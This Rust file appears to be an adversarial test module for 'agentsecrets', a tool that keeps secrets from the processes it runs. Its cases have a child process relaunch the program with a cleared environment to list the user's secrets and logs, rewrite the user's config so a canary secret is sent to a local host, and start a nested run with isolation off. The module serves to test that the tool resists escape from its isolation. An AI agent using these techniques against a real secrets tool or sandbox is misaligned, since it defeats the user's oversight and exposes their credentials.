//! agentsecrets itself, started by the child: it must give nothing that its run does not, and nothing of the user's own.

use std::fs;
use std::process::{Command, Output, Stdio};

use super::driver::ATTACK_VERB;
use super::{Act, Outcome, Scene, variable, why};

/// The name of a secret that the user has kept before; every list of the user's own shows it.
pub const KEPT: &str = "CANARY_KEPT";
/// Its workspace.
const WORKSPACE: &str = "default";

pub(super) const ATTACKS: &[(&str, Act)] = &[
    ("run-inside-run", run_inside_run),
    ("own-secrets-list", |scene| shows(scene, &["secrets", "list", "--json"], KEPT)),
    ("own-policy-show", |scene| shows(scene, &["policy", "show", "--origin"], KEPT)),
    ("own-log-list", |scene| shows(scene, &["log", "list", "--json"], scene.aim.earlier_run()?)),
    ("own-log-show", |scene| shows(scene, &["log", "show", scene.aim.earlier_run()?, "--json"], "\"kind\"")),
    ("own-call", call_by_other_rules),
];

/// This program anew, as the user would start it: without what tells it that it is inside a run.
#[expect(clippy::disallowed_methods, reason = "an attack starts what it likes")]
fn start(scene: &Scene, words: &[&str]) -> Result<Output, String> {
    let mut command = Command::new("/proc/self/exe");
    command.args(words).env_clear().env("HOME", &scene.aim.home).stdin(Stdio::null());
    command.env("XDG_STATE_HOME", &scene.aim.state).env("XDG_CONFIG_HOME", &scene.aim.config);
    command.env("PATH", variable("PATH").unwrap_or_default()).output().map_err(why("start"))
}

/// Whether a list of the user's own is printed with `wanted` in it.
fn shows(scene: &Scene, words: &[&str], wanted: &str) -> Outcome {
    let output = start(scene, words)?;
    let (text, errors) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    match text.lines().find(|line| line.contains(wanted)) {
        Some(line) => Ok(line.trim().to_owned()),
        None => Err(format!("{} {} {}", output.status, text.trim(), errors.trim())),
    }
}

/// Lets the kept secret go to a service of the host, by the user's own configuration, and sends it there.
fn call_by_other_rules(scene: &Scene) -> Outcome {
    let (own, target) = (scene.aim.config.join("agentsecrets"), format!("127.0.0.1:{}", scene.aim.host_port));
    let workspace = format!("[secrets.{KEPT}]\nsource = \"file\"\nhosts = [\"{target}\"]\nplaintext = true\n");
    let write = || {
        fs::create_dir_all(own.join("workspaces"))?;
        fs::write(own.join(format!("workspaces/{WORKSPACE}.toml")), workspace)?;
        fs::write(own.join("config.toml"), format!("[egress]\nloopback = [{}]\n", scene.aim.host_port))
    };
    // Where it cannot be written the rules are what they were.
    let written = write();
    let url = format!("http://{target}/{}", scene.mark);
    let output = start(scene, &["call", "--url", &url, "--bearer", KEPT, "--timeout", "5"])?;
    let said = format!("{written:?} {} {}", output.status, String::from_utf8_lossy(&output.stderr).trim());
    // Whether it arrived is for the host to say; what it answers is no HTTP.
    Ok(said)
}

/// A run without isolation that reads the project's file: it has what the outer one shows, and nothing more.
#[expect(clippy::disallowed_methods, reason = "an attack starts what it likes")]
fn run_inside_run(scene: &Scene) -> Outcome {
    let mut command = Command::new("/proc/self/exe");
    command.args(["run", "--quiet", "--no-ci", "--isolation", "none", "--", "/proc/self/exe", ATTACK_VERB]);
    command.arg(scene.aim.file()).args(["one", "read-dotenv", scene.mark]).stdin(Stdio::null());
    let output = command.output().map_err(why("start"))?;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    if text.contains("won: ") {
        return Ok(text.trim().to_owned());
    }
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    Err(format!("{} {} {}", output.status, text.trim(), errors.trim()))
}
